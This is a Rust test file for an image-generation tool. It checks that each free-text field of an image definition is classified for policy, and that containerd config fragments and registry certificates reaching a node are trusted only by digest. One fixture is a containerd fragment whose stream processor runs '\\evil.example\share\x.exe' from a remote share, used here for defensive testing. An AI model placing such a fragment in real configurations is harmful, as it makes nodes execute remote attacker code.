//! Every field of a definition that takes a text, with what a policy judges it as: a field that nobody has classified
//! fails here.

use std::collections::{BTreeMap, BTreeSet};

use imagegen::base::digest::sha256_hex;
use imagegen::model::policy::Role;
use serde_json::{Value, json};

use super::attacks::CERTIFICATE;
use crate::support::Test;

/// What a text of a definition is to a policy.
#[derive(Debug, Clone, Copy)]
enum Kind {
    /// A subject of this role, or the host, digest or proof of one.
    Subject(Role),
    /// What only this clause of a policy is about.
    Clause(&'static str),
    /// Who may give it is said by each target: `trust::layers` tests each of them.
    ByTarget,
    /// A name out of the catalog, or a version of one.
    Catalog,
    /// A number, an address of the cluster, a time: nothing in it names a program, a folder or a host to ask.
    Value,
    /// Nothing that reaches the node.
    Comment,
}

use Kind::{ByTarget, Catalog, Clause, Comment, Subject};

const FIELDS: &[(&str, Kind)] = &[
    ("$schema", Comment),
    ("note", Comment),
    ("note.*", Comment),
    ("imageVersion", Comment),
    ("kubernetes", Catalog),
    ("components.*", Clause("allowedVersions")),
    ("updates.files[].kb", Subject(Role::Update)),
    ("updates.files[].url", Subject(Role::Update)),
    ("updates.files[].sha256", Subject(Role::Update)),
    ("updates.defender[].version", Subject(Role::Update)),
    ("updates.defender[].url", Subject(Role::Update)),
    ("updates.defender[].sha256", Subject(Role::Update)),
    ("updates.kbs[]", Subject(Role::Update)),
    ("updates.except[]", Kind::Value),
    ("volumePlugins.*[].file", Subject(Role::VolumePlugin)),
    ("volumePlugins.*[].url", Subject(Role::VolumePlugin)),
    ("volumePlugins.*[].sha256", Subject(Role::VolumePlugin)),
    ("network.pods", Kind::Value),
    ("network.services", Kind::Value),
    ("network.nodes", Kind::Value),
    ("network.dns", Kind::Value),
    ("network.domain", Kind::Value),
    ("mirrors.*[]", Subject(Role::ContainerImage)),
    ("registries.*.server.url", Subject(Role::ContainerImage)),
    ("registries.*.server.ca", Subject(Role::Certificate)),
    ("registries.*.server.dialTimeout", Kind::Value),
    // They are sent to the host, which is judged.
    ("registries.*.server.headers.*", Kind::Value),
    ("registries.*.hosts[].url", Subject(Role::ContainerImage)),
    ("registries.*.hosts[].ca", Subject(Role::Certificate)),
    ("registries.*.hosts[].dialTimeout", Kind::Value),
    ("registries.*.hosts[].headers.*", Kind::Value),
    // An address of the node itself.
    ("containerd.metricsAddress", Kind::Value),
    ("containerd.fragments[]", Subject(Role::OwnFile)),
    ("containerImages[]", Subject(Role::ContainerImage)),
    ("imageSets[]", Catalog),
    ("images[]", Comment),
    ("matrix.*", Catalog),
    ("steps[]", Subject(Role::OwnFile)),
    ("targets[]", Subject(Role::OwnFile)),
    ("componentFiles[]", Subject(Role::OwnFile)),
    ("proxy.http", Clause("allowedProxies")),
    ("proxy.https", Clause("allowedProxies")),
    ("proxy.noProxy", Kind::Value),
    ("variables.*", ByTarget),
    ("packer.version", Subject(Role::BuildTool)),
    ("packer.plugins.*", Subject(Role::BuildTool)),
    ("overrides.*.url", Subject(Role::Artifact)),
    ("overrides.*.sha256", Subject(Role::Artifact)),
    ("overrides.*.sha512", Subject(Role::Artifact)),
    ("overrides.*.members[].member", Subject(Role::Artifact)),
    ("overrides.*.members[].file", Subject(Role::Artifact)),
    ("overrides.*.members[].sha256", Subject(Role::Artifact)),
    ("overrides.*.checksums", Subject(Role::Artifact)),
    ("overrides.*.signature.url", Subject(Role::Artifact)),
    (
        "overrides.*.signature.certificateUrl",
        Subject(Role::Artifact),
    ),
    ("overrides.*.signature.key", Clause("trustedKeys")),
    (
        "overrides.*.signature.identity",
        Clause("trustedIdentities"),
    ),
    ("overrides.*.signature.issuer", Clause("trustedIdentities")),
    ("overrides.*.publisher", Clause("trustedPublishers")),
    ("overrides.*.signedMembers[]", Subject(Role::Artifact)),
    ("overrides.*.roots", Clause("allowedRoots")),
    ("overrides.*.headers.*", Clause("headerGrants")),
];

/// Paths of all fields below a schema that take a text of the author's own: no word of a closed list.
fn list_texts(
    root: &Value,
    schema: &Value,
    path: &str,
    seen: &[&str],
    found: &mut BTreeSet<String>,
) {
    if let Some(name) = schema["$ref"].as_str() {
        let inner = root.pointer(name.trim_start_matches('#'));
        // An image of a definition has the fields of a definition.
        if !name.ends_with('#') && !seen.contains(&name) {
            let inner = inner.expect("a schema of the definition");
            list_texts(root, inner, path, &[seen, &[name]].concat(), found);
        }
        return;
    }
    for form in ["anyOf", "oneOf", "allOf"] {
        for inner in schema[form].as_array().into_iter().flatten() {
            // Conditions that a field depends on name no further field.
            if inner.get("if").is_none() {
                list_texts(root, inner, path, seen, found);
            }
        }
    }
    for (name, inner) in schema["properties"].as_object().into_iter().flatten() {
        let path = if path.is_empty() {
            name.clone()
        } else {
            format!("{path}.{name}")
        };
        list_texts(root, inner, &path, seen, found);
    }
    if let inner @ (Value::Object(_) | Value::Bool(true)) = &schema["additionalProperties"] {
        list_texts(root, inner, &format!("{path}.*"), seen, found);
    }
    if let Some(items) = schema.get("items") {
        list_texts(root, items, &format!("{path}[]"), seen, found);
    }
    let kinds = &schema["type"];
    let is_text = kinds == "string"
        || kinds
            .as_array()
            .is_some_and(|all| all.contains(&json!("string")));
    let is_closed = schema.get("enum").is_some() || schema.get("const").is_some();
    let is_anything =
        *schema == Value::Bool(true) || schema.as_object().is_some_and(serde_json::Map::is_empty);
    if is_text && !is_closed || is_anything {
        found.insert(path.to_owned());
    }
}

fn find_kind(path: &str) -> Option<Kind> {
    let mut known = FIELDS.iter();
    let entry = known.find(|(name, _)| match name.strip_suffix("matrix.*") {
        Some(_) => path.starts_with("matrix."),
        None => *name == path,
    });
    entry.map(|(_, kind)| *kind)
}

#[test]
fn each_text_of_a_definition_is_judged_as_something() {
    let schema: Value =
        serde_json::from_str(&Test::new().prints("schema image-definition")).expect("JSON");
    let mut found = BTreeSet::new();
    list_texts(&schema, &schema, "", &[], &mut found);

    let unknown: Vec<&String> = found
        .iter()
        .filter(|path| find_kind(path).is_none())
        .collect();
    assert!(
        unknown.is_empty(),
        "classify these fields in `FIELDS`, and make what names a program, a folder or a host a subject: {unknown:?}"
    );
    for (path, kind) in FIELDS {
        assert!(
            *path == "matrix.*" || found.contains(*path),
            "{path} is no field"
        );
        if let Clause(clause) = kind {
            let policy = Test::new().prints("schema policy");
            assert!(
                policy.contains(&format!("\"{clause}\"")),
                "{path}: {clause}"
            );
        }
    }
}

const FRAGMENT: &str = "version = 4\n[stream_processors.x]\nreturns = 'application/vnd.oci.image.layer.v1.tar'\n\
                        path = '\\\\evil.example\\share\\x.exe'\n";

/// Fields whose text is itself what reaches the node: a definition with each, the name that policies have for it, what
/// is said without a policy, and what a policy says that does not name its digest.
fn list_own_texts() -> Vec<(&'static str, Value, &'static str, [&'static str; 2])> {
    let fragment = json!({"containerd": {"fragments": [FRAGMENT]}});
    let host = json!({"url": "https://good.example", "ca": CERTIFICATE});
    let server = json!({"registries": {"registry.k8s.io": {"server": host}}});
    let mirror = json!({"registries": {"registry.k8s.io": {"hosts": [host]}}});
    let certificate = [
        "nodes trust `ca` of good.example for the registry registry.k8s.io, which the image definition brings",
        "`ca` of good.example for the registry registry.k8s.io: nodes would trust what it signs",
    ];
    let configuration = [
        "containerd runs the programs and asks the hosts of containerd.fragments[0], which the image definition brings",
        "containerd.fragments[0]: containerd would run programs and ask hosts that it names",
    ];
    vec![
        (
            "containerd.fragments[]",
            fragment,
            "containerd.fragments",
            configuration,
        ),
        (
            "registries.*.server.ca",
            server,
            "registries/good.example",
            certificate,
        ),
        (
            "registries.*.hosts[].ca",
            mirror,
            "registries/good.example",
            certificate,
        ),
    ]
}

#[test]
fn a_text_that_reaches_the_node_is_trusted_by_its_digest_alone() {
    let texts = BTreeMap::from([("own-file", FRAGMENT), ("certificate", CERTIFICATE)]);
    for (path, definition, name, [warned, refused]) in list_own_texts() {
        let Some(Subject(role)) = find_kind(path) else {
            panic!("{path} is no subject");
        };
        let digest = sha256_hex(texts[role.as_str()].as_bytes());
        let plan = |policy: Option<Value>| {
            let test = Test::new()
                .file("imagegen.json", &definition.to_string())
                .line("plan --target host --k8s 1.36.0");
            match policy {
                Some(policy) => test
                    .file("policy.json", &policy.to_string())
                    .line("--policy policy.json"),
                None => test,
            }
        };
        let trusted = |digest: &str, name: &str| json!({"name": "ours", "trustedDigests": [{"digest": digest, "components": [name]}]});

        let free = plan(None).succeeds();
        assert!(free.stdout.contains(warned), "{path}: {}", free.stdout);
        let listed = format!(": SHA-256 {digest}\n");
        assert!(free.stdout.contains(&listed), "{path}: {}", free.stdout);
        let admitted = plan(Some(trusted(&digest, name))).succeeds();
        assert!(
            admitted.stdout.contains(&listed),
            "{path}: {}",
            admitted.stdout
        );

        let elsewhere = if role == Role::Certificate {
            "registries/evil.example"
        } else {
            "kubelet"
        };
        let entry = format!(r#"{{"digest": "{digest}", "components": ["{name}"]}}"#);
        for policy in [
            json!({"name": "ours"}),
            trusted(&"ab".repeat(32), name),
            trusted(&digest, elsewhere),
        ] {
            plan(Some(policy)).fails(3, &[refused, "[policy-trusted-digests]", &entry]);
        }
        let mut forbidden = trusted(&digest, name);
        forbidden["forbiddenRoles"] = json!([role.as_str()]);
        plan(Some(forbidden)).fails(3, &["[policy-forbidden-roles]"]);
        let mut forbidden = trusted(&digest, name);
        forbidden["forbiddenComponents"] = json!([name]);
        plan(Some(forbidden)).fails(3, &["[policy-forbidden-components]"]);
    }
}

/// The bill of materials has them with their digests, as parts of the image.
#[test]
fn texts_that_reach_the_node_are_in_the_bill_of_materials() {
    let host = json!({"url": "https://good.example", "ca": CERTIFICATE});
    let definition = json!({
        "target": "host", "kubernetes": "1.36.0", "containerd": {"fragments": [FRAGMENT]},
        "registries": {"registry.k8s.io": {"hosts": [host]}},
    });
    let test = Test::new().file("imagegen.json", &definition.to_string());
    test.prints("lock");
    let bill = test.prints("sbom imagegen.lock.json");
    for text in [FRAGMENT, CERTIFICATE] {
        assert!(bill.contains(&sha256_hex(text.as_bytes())), "{bill}");
    }
}
